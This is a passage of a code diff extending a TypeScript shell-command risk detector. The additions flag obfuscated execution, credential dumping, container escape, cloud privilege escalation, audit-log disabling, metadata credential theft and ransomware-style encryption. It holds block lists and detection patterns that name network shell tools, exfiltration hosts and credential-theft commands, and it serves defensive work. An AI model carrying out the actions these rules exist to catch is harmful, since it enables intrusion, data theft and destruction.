@@ -42,7 +42,7 @@ const GIT_DATA_SUB = new Set(['commit', 'tag', 'notes', 'log', 'grep', 'show', '
 const DOWNLOADERS = new Set(['curl', 'wget', 'wget2', 'fetch', 'iwr', 'invoke-webrequest', 'irm', 'invoke-restmethod', 'http', 'https', 'xh', 'httpie', 'lwp-request', 'lwp-download', 'aria2c', 'tftp', 'ftp', 'lynx', 'links', 'w3m', 'gsutil', 'aws', 'gh']);
 const NET_TOOLS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'socat', 'telnet', 'cryptcat', 'openssl', 'sbd', 'pwncat']);
 const SINKS = new Set([...DOWNLOADERS, ...NET_TOOLS, 'scp', 'sftp', 'rsync', 'rclone', 'ssh', 'smbclient', 'az', 'gcloud', 'mail', 'sendmail', 'mutt', 'swaks']);
-const READERS = new Set(['cat', 'less', 'more', 'head', 'tail', 'bat', 'batcat', 'strings', 'xxd', 'hexdump', 'od', 'base64', 'base32', 'nl', 'tac', 'cp', 'tar', 'zip', '7z', 'gzip', 'gpg', 'awk', 'sed', 'grep', 'get-content', 'gc', 'type', 'sqlite3', 'jq', 'xclip', 'pbcopy', 'sort', 'cut']);
+const READERS = new Set(['unshadow', 'cat', 'less', 'more', 'head', 'tail', 'bat', 'batcat', 'strings', 'xxd', 'hexdump', 'od', 'base64', 'base32', 'nl', 'tac', 'cp', 'tar', 'zip', '7z', 'gzip', 'gpg', 'awk', 'sed', 'grep', 'get-content', 'gc', 'type', 'sqlite3', 'jq', 'xclip', 'pbcopy', 'sort', 'cut']);
 const EXFIL_HOSTS = /(?:webhook\.site|requestbin|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|burpcollaborator\.net|oastify\.com|interact\.sh|oast\.(?:fun|me|pro|live|site|online)|canarytokens|transfer\.sh|termbin\.com|0x0\.st|file\.io|tmpfiles\.org|discord(?:app)?\.com\/api\/webhooks|api\.telegram\.org\/bot|hookbin\.com|beeceptor\.com|requestcatcher\.com|paste\.ee|pastebin\.com\/api|ix\.io|sprunge\.us)/i;
 const RAW_IP_URL = /^(?:[a-z][a-z0-9+.-]{1,10}:\/\/)?(?:[0-9]{1,3}\.){3}[0-9]{1,3}(?:[:/]|$)/;
 const SECRET_VAR = /\$\{?[A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_KEY|APIKEY|PRIVATE_KEY|ACCESS_KEY|CREDENTIAL)[A-Z0-9_]{0,40}\}?/;
@@ -64,6 +64,7 @@ const CRON_ANY = /@reboot|\* \* \* \* \*/;
 const NET_WORDS = /curl|wget|\/dev\/tcp|nc /;
 const SSHD_LAX = /permitrootlogin\s{1,4}yes|passwordauthentication\s{1,4}yes|permitemptypasswords\s{1,4}yes|authorizedkeysfile/;
 const NSENTER_1 = /nsenter\s{1,4}-t\s{0,2}1\b|--target[= ]1\b/;
+const CHROOT_DIR = /chroot\s{1,4}([^\s;&|]{1,200})/;
 const CHROOT_HOST = /chroot\s{1,4}(\/host|\/mnt\/host|\/proc\/1\/root|\/rootfs|\/hostfs|\/mnt\/root)\b/;
 const SHADOWCOPY = /shadowcopy/;
 const PROD = /\b(?:prod|production|live|prd)\b/i;
@@ -269,6 +270,21 @@ function isRecursive(c: Cmd): boolean {
   return c.args.some((a) => a === '--recursive' || (a.length > 1 && a[0] === '-' && a[1] !== '-' && /[rR]/.test(a)));
 }
 
+/** Get-ChildItem C:\Users -Recurse | Remove-Item, ls ~ | xargs rm -rf: the listed tree is what gets deleted. */
+function pipedRemoveFinding(ctx: CommandContext): Finding | null {
+  for (const p of ctx.parse.pipelines) {
+    if (p.length < 2) continue;
+    const last = p[p.length - 1]!;
+    if (!RM_NAMES.has(last.name) || positional(last).length > 0) continue;
+    const src = p[0]!;
+    if (!/^(?:get-childitem|gci|ls|dir|find|get-item)$/.test(src.name)) continue;
+    for (const a of positional(src)) {
+      const j = judgeDeletePath(a, src.cwd, true);
+      if (j.score >= 8) return { detail: `${src.name} ${a} piped into ${last.name}: deletes ${j.label}`, score: j.score };
+    }
+  }
+  return null;
+}
 function rmFinding(c: Cmd): Finding | null {
   if (!RM_NAMES.has(c.name)) return null;
   if (c.name === 'rmdir' && !c.args.some((a) => /^\/s$/i.test(a))) return null;
@@ -289,6 +305,7 @@ function rmFinding(c: Cmd): Finding | null {
   return bestF;
 }
 
+const DATA_FILE_GLOB = /^\*\.(?:db|sqlite3?|sql|mdb|accdb|docx?|xlsx?|pptx?|pdf|jpe?g|png|csv|bak|dump|kdbx|pst|ost|zip|tar|gz|txt)$/i;
 const FILTERS = new Set(['-name', '-iname', '-path', '-ipath', '-regex', '-iregex', '-mtime', '-mmin', '-atime', '-ctime', '-newer', '-size', '-user', '-empty', '-wholename', '-perm', '-lname']);
 function massDeleteFinding(c: Cmd): Finding | null {
   if (c.name === 'find') {
@@ -298,7 +315,11 @@ function massDeleteFinding(c: Cmd): Finding | null {
     const filtered = c.args.some((a) => FILTERS.has(a));
     // a specific name (-name .DS_Store, -name '*.pyc') is housekeeping; only broad sweeps count
     const named = c.args.some((a, i) => /^-i?(?:name|path|wholename|regex)$/.test(a) && (c.args[i + 1] ?? '*').replace(/^\*\.?/, '').length > 0);
-    if (named) return null;
+    if (named) {
+      const dataGlob = c.args.some((a, i) => /^-i?name$/.test(a) && DATA_FILE_GLOB.test(c.args[i + 1] ?? ''));
+      const root = dataGlob ? roots.find((r) => judgeDeletePath(r, c.cwd, true).score >= 9) : undefined;
+      return root !== undefined ? { detail: `find deletes every ${c.args[c.args.findIndex((a) => /^-i?name$/.test(a)) + 1]} file under ${root}`, score: 8 } : null;
+    }
     for (const r of roots.length ? roots : ['.']) {
       const j = judgeDeletePath(r, c.cwd, true);
       if (j.score >= (filtered ? 9 : 8)) return { detail: `find ${filtered ? 'with filters ' : ''}deleting under ${j.label}: ${r}`, score: filtered ? 5 : 9 };
@@ -559,14 +580,27 @@ function encodedFinding(ctx: CommandContext): Finding | null {
     }
   }
   if (/frombase64string/.test(ctx.norm) && /\biex\b|invoke-expression/.test(ctx.norm)) return { detail: 'PowerShell Invoke-Expression of base64-decoded text', score: 8 };
+  if ((ctx.lower.includes('pack(') || ctx.lower.includes('fromhex') || ctx.lower.includes('unhexlify')) && normTest(ctx, HEX_EXEC)) return { detail: 'hex-encoded text decoded and executed', score: 8 };
   return null;
 }
 
 const OBF_NAMES = /^[a-z0-9._+-]{1,40}$/;
+const HEX_EXEC = /\b(?:system|exec|eval|qx|popen|os\.system)\s{0,3}\(\s{0,3}(?:pack\s{0,3}\(\s{0,3}["']h\*|bytes\.fromhex|binascii\.unhexlify|bytearray\.fromhex)/;
 function obfuscationFinding(ctx: CommandContext): Finding | null {
   const c = ctx.cmds.find((x) => x.obf !== '' && x.name !== '' && OBF_NAMES.test(x.name));
-  return c ? { detail: `${c.obf} hides the command name "${c.name}"`, score: 4 } : null;
+  if (c) return { detail: `${c.obf} hides the command name "${c.name}"`, score: 4 };
+  for (const x of ctx.cmds) {
+    const ch = x.name.charCodeAt(0);
+    // cmd.exe: call %a%%b% (pieces of a name kept in variables)
+    if ((x.name === 'call' || ch === 37) && CMD_VAR_SPLICE.test(x.name === 'call' ? x.args[0] ?? '' : x.name)) return { detail: 'cmd.exe variables spliced into a command name', score: 6 };
+    // PowerShell: & ("{1}{0}" -f "ex","I") and $e=[char]73+[char]69+…
+    if (ch === 123 && PS_FORMAT_NAME.test(x.name) && x.args[0]?.toLowerCase() === '-f') return { detail: 'PowerShell -f format operator assembles a command name', score: 6 };
+    if (ch === 36 && x.name.length < 600 && x.name.split('[char]').length > 3) return { detail: 'PowerShell command name assembled from [char] codes', score: 6 };
+  }
+  return null;
 }
+const CMD_VAR_SPLICE = /^(?:%[a-z0-9_]{1,20}%){2,6}$/i;
+const PS_FORMAT_NAME = /^(?:\{[0-9]\}){2,8}$/;
 
 // ───────────────────────── escalation ─────────────────────────
 
@@ -772,6 +806,10 @@ function authorizedKeysFinding(ctx: CommandContext): Finding | null {
 const KNOWN_UNITS = /^(?:nginx|apache2|httpd|docker|containerd|postgresql(?:@.{1,20})?|mysql|mysqld|mariadb|redis(?:-server)?|mongod|sshd?|cron|crond|ufw|fail2ban|kubelet|php[0-9.]{0,4}-fpm|grafana-server|prometheus|node_exporter|caddy|tailscaled|networkmanager|chronyd|ntp|ntpd|systemd-timesyncd|firewalld|snapd|cups|bluetooth|avahi-daemon|rabbitmq-server|elasticsearch|kibana|jenkins|gitlab-runner|nfs-server|smbd|memcached|haproxy|supervisor|libvirtd|zerotier-one|wg-quick@.{1,20}|getty@.{1,20}|nvidia-persistenced|podman|minio|vault|consul|nomad|k3s|rke2-server|rke2-agent|auditd|apparmor|clamav-daemon|clamav-freshclam|unattended-upgrades|certbot\.timer|fstrim\.timer|systemd-resolved|rsyslog|atd|gdm|lightdm|sddm|ollama|code-server|netdata|telegraf|influxdb|mosquitto|cockpit\.socket|tuned|irqbalance|multipathd|iscsid|open-iscsi|zfs.{0,30}|mdmonitor|smartd|lvm2-monitor|sysstat|acpid|udisks2|upower|power-profiles-daemon|thermald|ssh\.socket|docker\.socket|containerd\.service|nginx\.service|docker\.service)(?:\.service)?$/i;
 const AUTOSTART_DIR = /^\/etc\/systemd\/system\/|^\/(?:usr\/)?lib\/systemd\/system\/|\/\.config\/systemd\/user\/|^\/etc\/init\.d\/|^\/etc\/rc\.local$|^\/etc\/rc[0-6s]?\.d\/|\/library\/launch(?:agents|daemons)\/|\/\.config\/autostart\/|^\/etc\/xdg\/autostart\/|^\/etc\/update-motd\.d\/|^\/etc\/init\/|\/start menu\/programs\/startup\//i;
 const SERVICE_TOOLS = new Set(['systemctl', 'launchctl', 'schtasks', 'register-scheduledtask', 'new-scheduledtasktrigger', 'new-service', 'sc', 'reg', 'new-itemproperty', 'set-itemproperty', 'update-rc.d', 'chkconfig']);
+/** macOS login/logout hooks: a script run as root at every login. */
+function loginHookFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => (c.name === 'defaults' && c.args[0] === 'write' && c.args.some((x) => /^(?:loginhook|logouthook)$/i.test(x)) ? { detail: `defaults write ${c.args.find((x) => /hook$/i.test(x))} runs a script as root at every login`, score: 7 } : null));
+}
 function serviceFinding(ctx: CommandContext): Finding | null {
   let b: Finding | null = null;
   const keep = (f: Finding): void => { if (b === null || (f.score ?? 0) > (b.score ?? 0)) b = f; };
@@ -992,7 +1030,9 @@ const mayNameHive = (l: string): boolean => l.includes('ntds') || l.includes('co
 function credReadFinding(ctx: CommandContext): Finding | null {
   return overCmds(ctx, (c) => {
     const a = c.args;
-    if (c.name === 'security' && a.some((x) => /^(?:dump-keychain|find-generic-password|find-internet-password|export)$/.test(x)) && (a.includes('-w') || a.includes('-g') || a.includes('dump-keychain') || a.includes('export'))) return { detail: `macOS keychain secrets read (security ${a[0]})`, score: 7 };
+    if (c.name === 'security' && a.some((x) => /^(?:dump-keychain|find-generic-password|find-internet-password|export)$/.test(x)) && (a.some((x) => /^-[a-z]{0,4}[wg][a-z]{0,4}$/.test(x)) || a.includes('dump-keychain') || a.includes('export'))) return { detail: `macOS keychain secrets read (security ${a[0]})`, score: 7 };
+    if (c.name === 'vaultcmd' && a.some((x) => /^\/list(?:creds|properties)/i.test(x))) return { detail: 'vaultcmd lists Windows Credential Manager secrets', score: 6 };
+    if (c.name === 'cmdkey' && a.some((x) => /^\/list/i.test(x))) return { detail: 'cmdkey lists stored Windows credentials', score: 3 };
     if (c.name === 'gpg' && a.some((x) => x.startsWith('--export-secret'))) return { detail: 'GPG secret keys exported', score: 7 };
     if (/^(?:mimikatz|lazagne|procdump|pypykatz|secretsdump\.py|secretsdump|gsecdump|wce)$/.test(c.name) || (c.name === 'rundll32' && /comsvcs/i.test(a.join(' ')) && /minidump/i.test(a.join(' ')))) return { detail: `credential dumping tool ${c.name}`, score: 9 };
     if (c.name === 'reg' && a[0]?.toLowerCase() === 'save' && /^hk(?:lm|ey_local_machine)\\(?:sam|security|system)$/i.test(a[1] ?? '')) return { detail: `registry hive ${a[1]} (password hashes) saved`, score: 9 };
@@ -1028,7 +1068,7 @@ const HUNT_TERMS = /passw|secret|api[_-]?key|token|private key|begin (?:rsa|open
 const HUNT_NAMES = /id_rsa|id_ed25519|id_ecdsa|\*\.pem|\*\.key|\.kdbx|wallet\.dat|credentials|\.env\b|\.git-credentials|\.npmrc|\.pgpass|\.netrc|shadow|\*\.ppk|\*\.pfx|\*\.p12|keystore/i;
 function huntFinding(ctx: CommandContext): Finding | null {
   return overCmds(ctx, (c) => {
-    const wide = (p: string): boolean => judgeDeletePath(p, c.cwd, true).score >= 9 || p === '/home' || p === '/Users';
+    const wide = (p: string): boolean => judgeDeletePath(p, c.cwd, true).score >= 9 || p === '/home' || p === '/Users' || p.startsWith('/home/*') || p.startsWith('/Users/*') || p.startsWith('/root/');
     if ((c.name === 'grep' || c.name === 'rg' || c.name === 'egrep' || c.name === 'ag' || c.name === 'findstr') && (c.name !== 'grep' || shortFlag(c, 'r') || shortFlag(c, 'R') || has(c, '--recursive'))) {
       const pos = positional(c);
       if (pos.length >= 2 && HUNT_TERMS.test(pos[0]!) && pos.slice(1).some(wide)) return { detail: `${c.name} searches ${pos.slice(1).find(wide)} for ${pos[0]!.slice(0, 40)}`, score: 5 };
@@ -1055,6 +1095,9 @@ function containerEscapeFinding(ctx: CommandContext): Finding | null {
     }
     if (c.name === 'chroot' || c.wrappers.includes('chroot')) {
       if (normTest(ctx, CHROOT_HOST)) return { detail: `chroot into the host filesystem ${CHROOT_HOST.exec(ctx.norm)?.[1] ?? ''}`, score: 8 };
+      const dir = (c.name === 'chroot' ? positional(c)[0] : undefined) ?? CHROOT_DIR.exec(ctx.norm)?.[1] ?? '';
+      const mounted = dir !== '' && ctx.cmds.some((m) => m.name === 'mount' && m.args.some((x) => BLOCK_DEV.test(x)) && positional(m).includes(dir));
+      if (mounted) return { detail: `host disk mounted on ${dir} and entered with chroot`, score: 8 };
     }
     if (c.name === 'curl' && c.args.some((a) => a.startsWith('--unix-socket') || a.includes('docker.sock')) && c.args.some((a) => a.includes('docker.sock'))) return { detail: 'Docker API called through docker.sock', score: 6 };
     if (c.name !== 'docker' && c.name !== 'podman' && c.name !== 'nerdctl' && c.name !== 'ctr') return null;
@@ -1211,6 +1254,7 @@ function antiForensicsFinding(ctx: CommandContext): Finding | null {
       const targets = a.filter((x, i) => !x.startsWith('-') && i !== ref + 1);
       const t = targets.find((x) => TIMESTOMP_TARGET.test(pathInfo(x, c.cwd).path));
       if (t) keep({ detail: `touch forges the timestamps of ${t}`, score: 5 });
+      else if (a[ref] === '-r' && targets.length > 0 && STD_SHELL_PATH.test(pathInfo(a[ref + 1] ?? '', c.cwd).path)) keep({ detail: `touch copies the timestamps of ${a[ref + 1]} onto ${targets[0]}`, score: 5 });
     }
     if (c.name === 'clear-eventlog' || c.name === 'remove-eventlog') keep({ detail: `${c.name} clears Windows event logs`, score: 8 });
     if (c.name === 'journalctl' && a.some((x) => /^--vacuum-(?:time|size)=(?:[0-9]s|1|0|1[sm]|1k|1b)/.test(x))) keep({ detail: 'journalctl vacuums the whole journal', score: 6 });
@@ -1577,6 +1621,231 @@ function infraFinding(ctx: CommandContext): Finding | null {
   });
 }
 
+// ───────────────────────── cloud control planes, ransomware, recon, phishing prompts ─────────────────────────
+
+const lowerArgs = (c: Cmd): string[] => c.args.map((x) => x.toLowerCase());
+/** The value of --flag value or --flag=value (lower-cased), or ''. */
+function flagVal(a: readonly string[], ...flags: string[]): string {
+  for (let i = 0; i < a.length; i++) {
+    const x = a[i]!;
+    for (const f of flags) {
+      if (x === f) return a[i + 1] ?? '';
+      if (x.startsWith(`${f}=`)) return x.slice(f.length + 1);
+    }
+  }
+  return '';
+}
+const ADMIN_POLICY = /administratoraccess|iamfullaccess|poweruseraccess|"action"\s{0,4}:\s{0,4}"\*"|"action"\s{0,4}:\s{0,4}"iam:\*"/;
+const GCP_ADMIN_ROLE = /^roles\/(?:owner|editor|iam\.[a-z]{0,40}admin|iam\.serviceaccount(?:tokencreator|keyadmin|user)|resourcemanager\.[a-z]{0,40}admin|[a-z]{1,30}\.admin)$/;
+const AZ_ADMIN_ROLE = /^(?:owner|contributor|user access administrator|global administrator|privileged role administrator|key vault administrator|storage blob data owner)$/;
+const PUBLIC_CIDR = /^(?:0\.0\.0\.0\/0|::\/0|\*|internet|any)$/;
+const FREEMAIL = /@(?:gmail|outlook|hotmail|yahoo|proton|protonmail|icloud|aol|gmx|mail|yandex)\.[a-z]{2,4}$/;
+
+/** Cloud IAM grants, new long-lived cloud keys and cluster-admin bindings. */
+function cloudPrivFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => {
+    if (c.name !== 'aws' && c.name !== 'gcloud' && c.name !== 'az' && c.name !== 'kubectl' && c.name !== 'oc') return null;
+    const a = lowerArgs(c);
+    const all = a.join(' ');
+    if (c.name === 'aws' && a[0] === 'iam') {
+      const op = a[1] ?? '';
+      if (/^(?:create-access-key|create-login-profile|update-login-profile|create-service-specific-credential)$/.test(op)) return { detail: `aws iam ${op} mints credentials${flagVal(a, '--user-name') ? ` for ${flagVal(a, '--user-name')}` : ''}`, score: 7 };
+      if (/^(?:attach|put)-(?:user|role|group)-policy$|^add-user-to-group$|^update-assume-role-policy$|^create-policy-version$/.test(op)) {
+        const admin = ADMIN_POLICY.test(all) || /^(?:admins?|administrators?)$/.test(flagVal(a, '--group-name'));
+        return { detail: `aws iam ${op}${admin ? ' grants administrator rights' : ' changes permissions'}`, score: admin ? 8 : 5 };
+      }
+      return null;
+    }
+    if (c.name === 'gcloud') {
+      const at = a.indexOf('add-iam-policy-binding');
+      if (at >= 0) {
+        const role = flagVal(a, '--role');
+        const member = flagVal(a, '--member');
+        const admin = GCP_ADMIN_ROLE.test(role);
+        const outside = FREEMAIL.test(member) || member === 'allusers' || member === 'allauthenticatedusers';
+        if (!admin && !outside) return null;
+        return { detail: `gcloud ${a.slice(0, at).filter((x) => !x.startsWith('-')).join(' ')} grants ${role || 'a role'} to ${member || 'a member'}`, score: admin && outside ? 9 : 7 };
+      }
+      if (a.includes('keys') && a.includes('create') && a.includes('service-accounts')) return { detail: 'gcloud creates a service-account key (long-lived credential)', score: 7 };
+      return null;
+    }
+    if (c.name === 'az') {
+      if (a[0] === 'role' && a[1] === 'assignment' && a[2] === 'create') {
+        const role = flagVal(a, '--role').replace(/^["']|["']$/g, '');
+        const who = flagVal(a, '--assignee', '--assignee-object-id');
+        const admin = AZ_ADMIN_ROLE.test(role);
+        if (!admin && !FREEMAIL.test(who)) return null;
+        return { detail: `az role assignment gives ${role || 'a role'} to ${who || 'a principal'}`, score: admin && FREEMAIL.test(who) ? 9 : 7 };
+      }
+      if (a[0] === 'ad' && (a[1] === 'sp' || a[1] === 'app') && a[2] === 'credential' && a[3] === 'reset') return { detail: `az ad ${a[1]} credential reset mints a new secret`, score: 7 };
+      return null;
+    }
+    // kubectl / oc
+    if (a[0] === 'create' && (a[1] === 'clusterrolebinding' || a[1] === 'rolebinding')) {
+      const role = flagVal(a, '--clusterrole', '--role');
+      if (role === 'cluster-admin' || role === 'admin' || role === 'system:masters') return { detail: `${c.name} create ${a[1]} binds ${role}`, score: role === 'admin' ? 5 : 8 };
+      return null;
+    }
+    if ((a[0] === 'run' || a[0] === 'debug') && (/"privileged"\s{0,4}:\s{0,4}true|"hostpid"\s{0,4}:\s{0,4}true|"hostnetwork"\s{0,4}:\s{0,4}true|"hostpath"/.test(all) || a.includes('--privileged') || (a[0] === 'debug' && a.some((x) => x.startsWith('node/'))))) {
+      return { detail: `${c.name} ${a[0]} starts a privileged or host-level pod`, score: 8 };
+    }
+    return null;
+  });
+}
+
+/** Cloud audit trails and detectors switched off, or storage / firewalls opened to everyone. */
+function cloudGuardFinding(ctx: CommandContext): Finding | null {
+  return overCmds(ctx, (c) => {
+    if (c.name !== 'aws' && c.name !== 'gcloud' && c.name !== 'az' && c.name !== 'gsutil') return null;
+    const a = lowerArgs(c);
+    const all = a.join(' ');
+    if (c.name === 'aws') {
+      const svc = a[0] ?? '', op = a[1] ?? '';
+      if (svc === 'cloudtrail' && /^(?:stop-logging|delete-trail)$/.test(op)) return { detail: `aws cloudtrail ${op} blinds the audit trail`, score: 8 };
+      if (svc === 'guardduty' && /^(?:delete-detector|disassociate-from-master-account|disassociate-from-administrator-account)$|^update-detector$/.test(op) && (op !== 'update-detector' || a.includes('--no-enable'))) return { detail: `aws guardduty ${op} disables threat detection`, score: 8 };
+      if (svc === 'configservice' && /^(?:stop-configuration-recorder|delete-configuration-recorder|delete-delivery-channel)$/.test(op)) return { detail: `aws configservice ${op}`, score: 7 };
+      if ((svc === 'securityhub' && op === 'disable-security-hub') || (svc === 'logs' && op === 'delete-log-group') || (svc === 'ec2' && op === 'delete-flow-logs')) return { detail: `aws ${svc} ${op}`, score: 6 };
+      if (svc === 'ec2' && op === 'authorize-security-group-ingress' && /0\.0\.0\.0\/0|::\/0/.test(all)) {
+        const port = flagVal(a, '--port');
+        const wide = port === '' || /^(?:22|3389|-1|0-65535|5432|3306|6379|27017|9200|2375)$/.test(port) || all.includes('ipprotocol=-1') || all.includes('"ipprotocol":"-1"');
+        return { detail: `security group opened to the internet${port ? ` on port ${port}` : ''}`, score: wide ? 7 : 4 };
+      }
+      if (svc === 's3api' && op === 'put-bucket-policy' && /"principal"\s{0,4}:\s{0,4}(?:"\*"|\{\s{0,4}"aws"\s{0,4}:\s{0,4}"\*")/.test(all) && /"effect"\s{0,4}:\s{0,4}"allow"/.test(all)) return { detail: `bucket ${flagVal(a, '--bucket')} made readable by anyone (Principal "*")`, score: 7 };
+      if (svc === 's3api' && op === 'put-bucket-acl' && /^public-read(?:-write)?$/.test(flagVal(a, '--acl'))) return { detail: `bucket ${flagVal(a, '--bucket')} ACL set to ${flagVal(a, '--acl')}`, score: 7 };
+      if (svc === 's3api' && op === 'delete-public-access-block') return { detail: `public access block removed from ${flagVal(a, '--bucket')}`, score: 6 };
+      return null;
+    }
+    if (c.name === 'gsutil' && a[0] === 'iam' && a[1] === 'ch' && /\ball(?:authenticated)?users:/.test(all)) return { detail: 'gsutil grants allUsers access to a bucket', score: 7 };
+    if (c.name === 'gcloud') {
+      if (a[0] === 'logging' && (a.includes('delete') || (a[1] === 'sinks' && a.includes('update') && a.includes('--disabled')))) return { detail: `gcloud logging ${a.slice(1, 3).join(' ')} removes audit log routing`, score: 7 };
+      if (a.includes('add-iam-policy-binding') && (a.includes('buckets') || a.includes('storage')) && /allusers|allauthenticatedusers/.test(flagVal(a, '--member'))) return { detail: 'bucket opened to allUsers', score: 7 };
+      if (a[0] === 'compute' && a[1] === 'firewall-rules' && (a[2] === 'create' || a[2] === 'update') && /0\.0\.0\.0\/0/.test(flagVal(a, '--source-ranges')) && /tcp:(?:22|3389)\b|^all$|tcp(?:,|$)/.test(flagVal(a, '--allow', '--rules'))) return { detail: 'firewall rule opens SSH/RDP or all ports to the internet', score: 7 };
+      return null;
+    }
+    // az
+    if (a[0] === 'monitor' && a[1] === 'diagnostic-settings' && a[2] === 'delete') return { detail: 'az monitor diagnostic-settings delete stops log shipping', score: 7 };
+    if (a[0] === 'storage' && a[1] === 'account' && a[2] === 'update' && /^true$/.test(flagVal(a, '--allow-blob-public-access'))) return { detail: 'storage account opened to anonymous blob access', score: 6 };
+    if (a[0] === 'network' && a[1] === 'nsg' && a[2] === 'rule' && (a[3] === 'create' || a[3] === 'update') && PUBLIC_CIDR.test(flagVal(a, '--source-address-prefixes', '--source-address-prefix')) && flagVal(a, '--access') !== 'deny') {
+      const port = flagVal(a, '--destination-port-ranges', '--destination-port-range');
+      if (port === '' || /^(?:22|3389|\*)$/.test(port)) return { detail: `NSG rule opens ${port || 'all ports'} to the internet`, score: 7 };
+    }
+    return null;
+  });
+}
+
+const METADATA_CRED = /(?:169\.254\.169\.254|\[fd00:ec2::254\]|100\.100\.100\.200)\/(?:latest\/(?:meta-data\/(?:iam\/security-credentials|identity-credentials)|user-data|api\/token)|metadata\/identity\/oauth2\/token|computemetadata\/v1\/instance\/service-accounts|metadata\/instance\/compute\/userdata)|metadata\.google\.internal\/computemetadata\/v1\/(?:instance\/service-accounts|project\/attributes\/ssh-keys|instance\/attributes\/kube-env)|169\.254\.170\.2(?:\/|\$)/;
+const SENSITIVE_BUCKET = /(?:^|[^a-z])(?:prod|production|customers?|pii|backups?|finance|payroll|users|hr|billing|secrets?)(?:[^a-z]|$)/;
+
+/** Credentials pulled from instance metadata, Kubernetes secrets dumped, buckets bulk-copied out. */
+function cloudCredFinding(ctx: CommandContext): Finding | null {
+  let b: Finding | null = null;
+  const keep = (f: Finding): void => { if (b === null || (f.score ?? 0) > (b.score ?? 0)) b = f; };
+  if ((ctx.lower.includes('169.254.') || ctx.lower.includes('metadata') || ctx.lower.includes('100.100.100.200') || ctx.lower.includes('fd00:ec2')) && normTest(ctx, METADATA_CRED)) {
+    const m = METADATA_CRED.exec(ctx.norm);
+    keep({ detail: `instance metadata credentials requested (${m ? m[0].slice(0, 60) : 'metadata service'})`, score: m && /user-data|userdata|ssh-keys|api\/token/.test(m[0]) ? 5 : 8 });
+  }
+  const buckets: string[] = [];
+  for (const c of ctx.cmds) {
+    if (c.name === 'kubectl' || c.name === 'oc') {
+      const a = lowerArgs(c);
+      const gi = a.indexOf('get');
+      if (gi >= 0 && /^(?:secrets?|secret\/.{1,80}|secrets\/.{1,80})$/.test(a[gi + 1] ?? '')) {
+        const out = flagVal(a, '-o', '--output') || (a.find((x) => /^-o(?:yaml|json|jsonpath|go-template)/.test(x)) ?? '').slice(2);
+        if (/^(?:ya?ml|json|jsonpath|go-template)/.test(out)) {
+          const every = a.includes('-a') || a.includes('--all-namespaces');
+          keep({ detail: `${c.name} get secrets -o ${out.split('=')[0]}${every ? ' across all namespaces' : ''} prints secret values`, score: every ? 8 : 4 });
+        }
+      }
+    }
+    if (c.name === 'aws' && c.args[0] === 's3' && (c.args[1] === 'cp' || c.args[1] === 'sync' || c.args[1] === 'mv')) {
+      const pos = positional(c).slice(2);
+      for (const x of pos) if (x.startsWith('s3://')) buckets.push(x.slice(5).split('/')[0]!.toLowerCase());
+      if (pos.length >= 2 && pos[0]!.startsWith('s3://') && pos[pos.length - 1]!.startsWith('s3://')) {
+        const from = pos[0]!.slice(5).split('/')[0]!.toLowerCase(), to = pos[pos.length - 1]!.slice(5).split('/')[0]!.toLowerCase();
+        if (from !== to && SENSITIVE_BUCKET.test(from) && !SENSITIVE_BUCKET.test(to)) keep({ detail: `aws s3 ${c.args[1]} copies bucket ${from} into ${to}`, score: 6 });
+      }
+    }
+    if ((c.name === 'az' && c.args[0] === 'storage' && c.args[1] === 'blob' && c.args[2] === 'download-batch') || (c.name === 'gsutil' && c.args.some((x) => x === 'cp' || x === 'rsync') && c.args.some((x) => /^-[a-z]*r/i.test(x)))) {
+      const src = c.name === 'az' ? `${flagVal(lowerArgs(c), '-s', '--source')} ${flagVal(lowerArgs(c), '--account-name')}` : positional(c).find((x) => x.startsWith('gs://')) ?? '';
+      if (SENSITIVE_BUCKET.test(src.toLowerCase())) keep({ detail: `bulk download of ${src.trim()}`, score: 4 });
+    }
+  }
+  // the same line pulls one bucket down and pushes into another: aws s3 cp s3://prod ./d && aws s3 cp ./d s3://other
+  if (buckets.length >= 2) {
+    const first = buckets[0]!, last = buckets[buckets.length - 1]!;
+    if (first !== last && SENSITIVE_BUCKET.test(first)) keep({ detail: `data from bucket ${first} re-uploaded to bucket ${last}`, score: 7 });
+  }
+  return b;
+}
+
+const ENCRYPTORS = new Set(['openssl', 'gpg', 'gpg2', 'ccrypt', 'aescrypt', 'age', '7z', '7za', 'zip', 'rar', 'encfs', 'scrypt']);
+/** Flags that make each tool encrypt (openssl enc / -aes-256-cbc, gpg -c/-e, zip -e/-P, 7z -p, age -p/-r). */
+function encrypts(c: Cmd): boolean {
+  const a = c.args;
+  switch (c.name) {
+    case 'openssl': return a[0] === 'enc' || /^-?aes|^-?chacha|^-?des/.test(a[0] ?? '');
+    case 'gpg': case 'gpg2': return a.some((x) => x === '-c' || x === '--symmetric' || x === '-e' || x === '--encrypt' || /^-[a-z]*c[a-z]*$/.test(x) && x.length <= 6);
+    case 'ccrypt': case 'aescrypt': case 'scrypt': return !a.some((x) => x === '-d' || x === '--decrypt' || x === 'dec');
+    case 'age': return a.some((x) => x === '-p' || x === '-r' || x === '--passphrase' || x === '--recipient');
+    case '7z': case '7za': return a[0] === 'a' && a.some((x) => x.startsWith('-p'));
+    case 'zip': return a.some((x) => x === '-e' || x === '-P' || x === '--encrypt');
+    case 'rar': return a.some((x) => x.startsWith('-hp') || x.startsWith('-p'));
+    default: return false;
+  }
+}
+/** Files encrypted and the plaintext originals deleted in the same line: the ransomware shape. */
+function ransomFinding(ctx: CommandContext): Finding | null {
+  if (!ctx.cmds.some((c) => ENCRYPTORS.has(c.name)) || !ctx.cmds.some((c) => RM_NAMES.has(c.name))) return null;
+  const inputs = new Set<string>();
+  const made = new Set<string>();
+  let enc: Cmd | null = null;
+  for (const c of ctx.cmds) {
+    for (const r of c.redirects) if (r.op === '>' || r.op === '>>') made.add(r.target);
+    if (c.name === 'tar' || c.name === 'zip' || c.name === '7z' || c.name === 'gzip' || c.name === 'pg_dump' || c.name === 'mysqldump') { for (const x of positional(c).slice(0, 1)) made.add(x); for (const x of c.args) if (/\.(?:tar|tgz|gz|zip|7z|sql|dump)$/.test(x)) made.add(x); }
+    if (!ENCRYPTORS.has(c.name) || !encrypts(c)) continue;
+    enc ??= c;
+    for (let i = 0; i < c.args.length; i++) {
+      const x = c.args[i]!;
